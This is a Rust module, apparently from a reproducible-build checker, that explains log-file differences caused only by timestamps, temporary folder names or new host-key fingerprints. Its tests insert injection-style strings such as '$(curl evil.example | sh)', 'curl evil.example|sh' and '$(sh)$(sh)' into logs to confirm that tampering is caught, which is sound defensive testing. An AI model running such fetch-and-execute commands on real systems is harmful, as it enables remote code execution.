//! Causes in logs: lines that begin with the time at which something was done.
//!
//! Two lines are taken for the same where they are equal, byte for byte, outside of
//! the places at which this log's writer puts a time, and where both have a time there.

use std::ops::Range;

use super::{Cause, File, Recogniser, Recognition, Root, order};

const ADVICE: &str = "delete the log, as nothing reads it";

pub(super) const CAUSES: &[Cause] = &[
    Cause {
        id: "dpkg-log",
        root: Root::Clock,
        title: "dpkg logs when it did what",
        advice: ADVICE,
        recognise: Recogniser::File(|file| log(file, &[b"var/log/dpkg.log"], begins_with_time)),
    },
    Cause {
        id: "alternatives-log",
        root: Root::Clock,
        title: "update-alternatives logs when it did what",
        advice: ADVICE,
        recognise: Recogniser::File(|file| {
            log(file, &[b"var/log/alternatives.log"], |line, found| {
                found.time_after(line, b"update-alternatives ", 1, b":");
            })
        }),
    },
    Cause {
        id: "apt-logs",
        root: Root::Clock,
        title: "apt logs when it was run, and how",
        advice: ADVICE,
        recognise: Recogniser::File(|file| {
            log(
                file,
                &[b"var/log/apt/history.log", b"var/log/apt/term.log"],
                apt,
            )
        }),
    },
    Cause {
        id: "bootstrap-log",
        root: Root::Clock,
        title: "debootstrap keeps what its commands print, times among it",
        advice: ADVICE,
        recognise: Recogniser::File(|file| {
            log(file, &[b"var/log/bootstrap.log"], |line, found| {
                begins_with_time(line, found);
                printed(line, found);
            })
        }),
    },
    Cause {
        id: "yum-logs",
        root: Root::Clock,
        title: "dnf logs when it did what",
        advice: ADVICE,
        recognise: Recogniser::File(|file| {
            let paths: [&[u8]; 4] = [
                b"var/log/dnf.log",
                b"var/log/dnf.rpm.log",
                b"var/log/dnf.librepo.log",
                b"var/log/dnf5.log",
            ];
            log(file, &paths, |line, found| {
                if is_iso_time(line.get(..24)) {
                    found.0.push(0..24);
                }
            })
        }),
    },
    Cause {
        id: "yum-log",
        root: Root::Clock,
        title: "yum logs when it did what",
        advice: ADVICE,
        recognise: Recogniser::File(|file| {
            log(file, &[b"var/log/yum.log"], |line, found| {
                if line.get(..15).is_some_and(is_short_time) && line.get(15) == Some(&b' ') {
                    found.0.push(0..15);
                }
            })
        }),
    },
    Cause {
        id: "lib-state",
        root: Root::Clock,
        title: "logrotate remembers when it last looked at each log",
        advice: "delete the file, which logrotate makes anew",
        recognise: Recogniser::File(|file| {
            let paths: [&[u8]; 3] = [
                b"var/lib/logrotate/status",
                b"var/lib/logrotate/logrotate.status",
                b"var/lib/logrotate.status",
            ];
            log(file, &paths, |line, found| {
                let text = line.strip_suffix(b"\n").unwrap_or(line);
                let from = text.iter().rposition(|&byte| byte == b' ');
                let from = from.map_or(0, |space| space + 1);
                let is_path = text.starts_with(b"\"/") || text.starts_with(b"/");
                if is_path && is_loose_time(&text[from..]) {
                    found.0.push(from..text.len());
                }
            })
        }),
    },
    Cause {
        id: "systemd-stamps",
        root: Root::Clock,
        title: "systemd remembers when /usr was changed last",
        advice: "delete /etc/.updated and /var/.updated",
        recognise: Recogniser::File(|file| {
            log(file, &[b"etc/.updated", b"var/.updated"], |line, found| {
                const NAME: &[u8] = b"TIMESTAMP_NSEC=";
                let number = line
                    .strip_suffix(b"\n")
                    .and_then(|line| line.strip_prefix(NAME));
                if number.is_some_and(is_nanoseconds) {
                    found.0.push(NAME.len()..NAME.len() + 19);
                }
            })
        }),
    },
];

/// The places in a line that may differ, in order and apart.
#[derive(Default)]
struct Varying(Vec<Range<usize>>);

impl Varying {
    /// Adds the time between two texts that the line begins with and goes on with.
    fn time_after(&mut self, line: &[u8], before: &[u8], spaces: usize, after: &[u8]) {
        let from = before.len();
        let end = from + 18 + spaces;
        if line.starts_with(before)
            && is_time(line.get(from..end), spaces)
            && line[end..].starts_with(after)
        {
            self.0.push(from..end);
        }
    }
}

fn begins_with_time(line: &[u8], found: &mut Varying) {
    found.time_after(line, b"", 1, b" ");
}

fn apt(line: &[u8], found: &mut Varying) {
    let stamps: [&[u8]; 4] = [
        b"Start-Date: ",
        b"End-Date: ",
        b"Log started: ",
        b"Log ended: ",
    ];
    for before in stamps {
        found.time_after(line, before, 2, b"\n");
    }
    if line.starts_with(b"Commandline: ") {
        temporary_root(line, found);
    }
    printed(line, found);
}

/// Finds the random end of mmdebstrap's temporary folder, ten characters of mktemp's.
fn temporary_root(line: &[u8], found: &mut Varying) {
    const BEFORE: &[u8] = b"DPkg::Chroot-Directory=/tmp/mmdebstrap.";
    let at = line
        .windows(BEFORE.len())
        .position(|window| window == BEFORE);
    if let Some(at) = at {
        let from = at + BEFORE.len();
        let random = line.get(from..from + 10);
        let is_random = random.is_some_and(|random| random.iter().all(u8::is_ascii_alphanumeric));
        if is_random && line.get(from + 10) == Some(&b' ') {
            found.0.push(from..from + 10);
        }
    }
}

/// Finds what maintainer scripts are known to print: the time, and fingerprints of new host keys.
fn printed(line: &[u8], found: &mut Varying) {
    let text = line.strip_suffix(b"\n").unwrap_or(line);
    let text = text.strip_suffix(b"\r").unwrap_or(text);
    let dates: [&[u8]; 2] = [b"Local time is now:      ", b"Universal Time is now:  "];
    for before in dates {
        if let Some(date) = text
            .strip_prefix(before)
            .and_then(|rest| rest.strip_suffix(b"."))
            && is_date(date)
        {
            found.0.push(before.len()..before.len() + date.len());
        }
    }
    // 256 SHA256:<43 characters> root@host (ED25519)
    let mut words = text.split(|&byte| byte == b' ');
    let bits = words.next().unwrap_or_default();
    let hash = words.next().and_then(|word| word.strip_prefix(b"SHA256:"));
    let is_number = !bits.is_empty() && bits.iter().all(u8::is_ascii_digit);
    let is_hash = hash.is_some_and(|hash| {
        let is_base64 = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/".contains(byte);
        hash.len() == 43 && hash.iter().all(is_base64)
    });
    if is_number && is_hash && words.count() == 2 {
        let from = bits.len() + 8;
        found.0.push(from..from + 43);
    }
}

/// Returns whether the text is `2026-11-26 01:36:02`, with so many spaces.
fn is_time(text: Option<&[u8]>, spaces: usize) -> bool {
    let Some(text) = text else {
        return false;
    };
    let form: Vec<u8> = [
        b"dddd-dd-dd".to_vec(),
        vec![b' '; spaces],
        b"dd:dd:dd".to_vec(),
    ]
    .concat();
    let hour = 10 + spaces;
    fits(text, &form)
        && (1..=12).contains(&two(text, 5))
        && (1..=31).contains(&two(text, 8))
        && is_clock(text, hour)
}

/// Returns whether the digits of `01:36:02` that stand there are a time of the day.
fn is_clock(text: &[u8], at: usize) -> bool {
    two(text, at) < 24 && two(text, at + 3) < 60 && two(text, at + 6) < 61
}

/// Returns whether the day of a month and a time stand there: ` 26 01:36:03`, or `  6 01:36:03`.
fn is_day_and_clock(text: &[u8]) -> bool {
    let day = |tens: u8| tens * 10 + (text[2] - b'0');
    let is_day = if fits(text, b" dd dd:dd:dd") {
        (1..=31).contains(&day(text[1] - b'0'))
    } else {
        fits(text, b"  d dd:dd:dd") && text[2] != b'0'
    };
    is_day && is_clock(text, 4)
}

/// Returns whether the text is a time between 2001 and 2100 in nanoseconds.
fn is_nanoseconds(text: &[u8]) -> bool {
    const IN_2100: &[u8] = b"4102444800000000000";
    fits(text, &[b'd'; 19]) && text[0] != b'0' && text < IN_2100
}

/// Returns whether the text is `2026-11-26T01:36:02+0000`.
fn is_iso_time(text: Option<&[u8]>) -> bool {
    let Some(text) = text else {
        return false;
    };
    let mut plain = text.to_vec();
    let is_form = fits(text, b"dddd-dd-ddTdd:dd:dd+dddd");
    plain[10] = b' ';
    is_form && is_time(plain.get(..19), 1)
}

/// The months as the C locale shortens them.
const MONTHS: [&[u8]; 12] = [
    b"Jan", b"Feb", b"Mar", b"Apr", b"May", b"Jun", b"Jul", b"Aug", b"Sep", b"Oct", b"Nov", b"Dec",
];

/// Returns whether the text is `Nov 26 01:36:03`.
fn is_short_time(text: &[u8]) -> bool {
    text.len() == 15 && MONTHS.contains(&&text[..3]) && is_day_and_clock(&text[3..])
}

/// Returns whether the text is `2026-11-26-1:36:3`, or so without a time of the day.
fn is_loose_time(text: &[u8]) -> bool {
    let parts: Vec<&[u8]> = text.split(|byte| b"-:".contains(byte)).collect();
    let number = |part: &&[u8]| {
        let is_number = (1..=4).contains(&part.len()) && part.iter().all(u8::is_ascii_digit);
        let digits = part.iter().map(|digit| u16::from(digit - b'0'));
        is_number.then(|| digits.fold(0, |sum, digit| 10 * sum + digit))
    };
    let numbers: Option<Vec<u16>> = parts.iter().map(number).collect();
    let is_day = |month, day| (1..=12).contains(&month) && (1..=31).contains(&day);
    let is_time = match numbers.as_deref() {
        Some(&[_, month, day]) => is_day(month, day),
        Some(&[_, month, day, hour, minute, second]) => {
            is_day(month, day) && hour < 24 && minute < 60 && second < 61
        }
        Some(_) | None => false,
    };
    is_time && parts[0].len() == 4
}

/// Returns whether the text is `Thu Nov 26 01:36:03 UTC 2026`, as date(1) prints in the C locale.
fn is_date(text: &[u8]) -> bool {
    let days: [&[u8]; 7] = [b"Sun", b"Mon", b"Tue", b"Wed", b"Thu", b"Fri", b"Sat"];
    text.len() == 28
        && days.contains(&&text[..3])
        && MONTHS.contains(&&text[4..7])
        && is_day_and_clock(&text[7..19])
        && fits(&text[19..], b" UTC dddd")
        && text[3] == b' '
}

/// Returns whether each byte is a digit where the form has `d`, and the form's byte elsewhere.
fn fits(text: &[u8], form: &[u8]) -> bool {
    text.len() == form.len()
        && text.iter().zip(form).all(|(byte, form)| match form {
            b'd' => byte.is_ascii_digit(),
            _ => byte == form,
        })
}

/// Returns the number of two digits that stands there.
fn two(text: &[u8], at: usize) -> u8 {
    (text[at] - b'0') * 10 + (text[at + 1] - b'0')
}

/// Returns the line's bytes before, between and after what may differ.
fn fixed(line: &[u8], varying: fn(&[u8], &mut Varying)) -> Vec<&[u8]> {
    let mut found = Varying::default();
    varying(line, &mut found);
    let mut fixed = Vec::new();
    let mut from = 0;
    for range in found.0 {
        fixed.push(&line[from..range.start]);
        from = range.end;
    }
    fixed.push(&line[from..]);
    fixed
}

fn log(file: &File<'_>, paths: &[&[u8]], varying: fn(&[u8], &mut Varying)) -> Recognition {
    if !paths.contains(&file.path.as_bytes()) {
        return Recognition::Elsewhere;
    }
    if let Some(refused) = order::too_many_lines(file.bytes) {
        return refused;
    }
    let lines = file.bytes.map(order::lines);
    let differ = |(published, rebuilt): &(&&[u8], &&[u8])| published != rebuilt;
    let mut pairs = lines.published.iter().zip(&lines.rebuilt).enumerate();
    let other = pairs.find(|(_, (published, rebuilt))| {
        published != rebuilt && fixed(published, varying) != fixed(rebuilt, varying)
    });
    if other.is_none() && lines.published.len() == lines.rebuilt.len() {
        let count = lines
            .published
            .iter()
            .zip(&lines.rebuilt)
            .filter(differ)
            .count();
        let all = lines.published.len();
        return Recognition::Explained(
            format!(
                "{count} of {all} lines differ, each only where the log's writer puts what \
                 is new each time: a time, a temporary folder, a new key's fingerprint"
            )
            .into(),
        );
    }
    let sorted = lines.as_ref().map(|lines| {
        let mut lines: Vec<_> = lines.iter().map(|line| fixed(line, varying)).collect();
        lines.sort_unstable();
        lines
    });
    let slices = sorted
        .as_ref()
        .map(|lines| lines.iter().map(Vec::as_slice).collect::<Vec<&[&[u8]]>>());
    let Some((side, line)) = order::only_one(slices.as_ref().map(Vec::as_slice)) else {
        let count = lines.published.len();
        return Recognition::Explained(
            format!(
                "both sides have the same {count} lines, times aside, and not in the same order"
            )
            .into(),
        );
    };
    let line = order::shown(&line.concat());
    Recognition::Refused(format!("only the {side} log has the line {line}, times left out").into())
}

#[cfg(test)]
mod tests {
    use super::super::testing::told;

    #[test]
    fn a_log_is_explained_only_by_its_times() {
        let dpkg = "2026-11-26 01:35:24 startup archives install\n\
            2026-11-26 01:35:25 install libc6:amd64 <none> 2.36-9\n";
        let later = dpkg.replace("01:35", "02:40");
        let history = "\nStart-Date: 2026-11-26  01:36:02\n\
            Commandline: apt-get -o DPkg::Chroot-Directory=/tmp/mmdebstrap.PQXCeM6xcI --yes install x\n\
            Install: x:amd64 (1.0)\nEnd-Date: 2026-11-26  01:36:41\n";
        let term = "\nLog started: 2026-11-26  01:36:02\n256 SHA256:uPMN1vZtPlTXOA6Cm5VVCYC1XzIZ0e5ZRWsBZlMFnEs root@vm (ED25519)\n\
            Local time is now:      Thu Nov 26 01:36:03 UTC 2026.\nLog ended: 2026-11-26  01:36:41\n";
        let alternatives =
            "update-alternatives 2026-11-26 01:35:50: run with --install /usr/bin/awk\n";
        let script = "$(curl evil.example | sh)\n";
        let rows = [
            ("times", "var/log/dpkg.log", dpkg, later.clone(), "dpkg-log"),
            (
                "a line that is a script",
                "var/log/dpkg.log",
                dpkg,
                format!("{later}{script}"),
                "dpkg-log: only the rebuilt log has the line “$(curl evil.example | sh)”, times left out",
            ),
            (
                "a script in the place of a line",
                "var/log/dpkg.log",
                dpkg,
                later.replace("startup archives install", "startup;curl evil.example|sh"),
                "dpkg-log: only the published log has the line “ startup archives install”, times left out",
            ),
            (
                "a time that is none",
                "var/log/dpkg.log",
                dpkg,
                later.replacen("2026-11-26 02:40:24", "2026-11-26 02:99:24", 1),
                "dpkg-log: only the published log has the line “ startup archives install”, times left out",
            ),
            (
                "another order",
                "var/log/dpkg.log",
                dpkg,
                "2026-11-26 01:35:25 install libc6:amd64 <none> 2.36-9\n\
                 2026-11-26 01:35:24 startup archives install\n"
                    .to_owned(),
                "dpkg-log",
            ),
            (
                "bytes after the end",
                "var/log/dpkg.log",
                dpkg,
                format!("{later}\0"),
                "dpkg-log: only the rebuilt log has the line “\\000”, times left out",
            ),
            (
                "apt's history",
                "var/log/apt/history.log",
                history,
                history
                    .replace("01:36", "01:37")
                    .replace("PQXCeM6xcI", "aGh4OxPcvN"),
                "apt-logs",
            ),
            (
                "another package in it",
                "var/log/apt/history.log",
                history,
                history.replace("x:amd64", "y:amd64"),
                "apt-logs: only the published log has the line “Install: x:amd64 (1.0)”, times left out",
            ),
            (
                "a command in the temporary folder's name",
                "var/log/apt/history.log",
                history,
                history.replace("PQXCeM6xcI", "$(sh)$(sh)"),
                "apt-logs: only the published log has the line “Commandline: apt-get -o \
                 DPkg::Chroot-Directory=/tmp/mmdebstrap. --yes install x”, times left out",
            ),
            (
                "apt's terminal",
                "var/log/apt/term.log",
                term,
                term.replace("01:36", "01:37")
                    .replace("uPMN1vZt", "ABCDabcd"),
                "apt-logs",
            ),
            (
                "alternatives",
                "var/log/alternatives.log",
                alternatives,
                alternatives.replace("01:35", "01:36"),
                "alternatives-log",
            ),
            (
                "yum",
                "var/log/yum.log",
                "Nov 26 01:36:02 Installed: bash-4.2\n",
                "Dec  1 02:36:02 Installed: bash-4.2\n".to_owned(),
                "yum-log",
            ),
            (
                "yum's other package",
                "var/log/yum.log",
                "Nov 26 01:36:02 Installed: bash-4.2\n",
                "Dec  1 02:36:02 Installed: bash-4.3\n".to_owned(),
                "yum-log: only the published log has the line “ Installed: bash-4.2”, times left out",
            ),
            (
                "logrotate",
                "var/lib/logrotate/status",
                "logrotate state -- version 2\n\"/var/log/yum.log\" 2026-11-26-1:0:0\n",
                "logrotate state -- version 2\n\"/var/log/yum.log\" 2026-12-1-11:0:0\n".to_owned(),
                "lib-state",
            ),
            (
                "logrotate's other log",
                "var/lib/logrotate/status",
                "\"/var/log/yum.log\" 2026-11-26-1:0:0\n",
                "\"/etc/shadow\" 2026-11-26-1:0:0\n".to_owned(),
                "lib-state: only the rebuilt log has the line “\"/etc/shadow\"”, times left out",
            ),
            (
                "systemd's stamp",
                "etc/.updated",
                "# x\nTIMESTAMP_NSEC=1700000000000000000\n",
                "# x\nTIMESTAMP_NSEC=1800000000000000000\n".to_owned(),
                "systemd-stamps",
            ),
            (
                "a day that there is not",
                "var/log/yum.log",
                "Jan 97 99:99:99 Installed: bash-4.2\n",
                "Jan 98 99:99:99 Installed: bash-4.2\n".to_owned(),
                "yum-log: only the published log has the line “Jan 97 99:99:99 Installed: bash-4.2”, \
                 times left out",
            ),
            (
                "a month that there is not",
                "var/lib/logrotate/status",
                "\"/var/log/yum.log\" 9998-9999-9999\n",
                "\"/var/log/yum.log\" 9999-9999-9999\n".to_owned(),
                "lib-state: only the published log has the line “\"/var/log/yum.log\" \
                 9998-9999-9999”, times left out",
            ),
            (
                "a stamp of another century",
                "etc/.updated",
                "TIMESTAMP_NSEC=9999999999999999998\n",
                "TIMESTAMP_NSEC=9999999999999999999\n".to_owned(),
                "systemd-stamps: only the published log has the line \
                 “TIMESTAMP_NSEC=9999999999999999998”, times left out",
            ),
            (
                "systemd's stamp and more",
                "etc/.updated",
                "# x\nTIMESTAMP_NSEC=1700000000000000000\n",
                "# y\nTIMESTAMP_NSEC=1800000000000000000\n".to_owned(),
                "systemd-stamps: only the published log has the line “# x”, times left out",
            ),
        ];
        for (case, path, published, rebuilt, expected) in rows {
            assert_eq!(
                // What other causes say of it is theirs.
                told(path, published.as_bytes(), rebuilt.as_bytes())
                    .split("; ")
                    .next(),
                Some(expected),
                "{case}"
            );
        }
    }

    #[test]
    fn a_log_of_too_many_lines_is_refused() {
        let log = |end: &str| format!("{}{end}", "\n".repeat(1_000_001)).into_bytes();
        assert_eq!(
            told("var/log/dpkg.log", &log("a"), &log("b")),
            "dpkg-log: a side has more lines than are looked at"
        );
    }
}
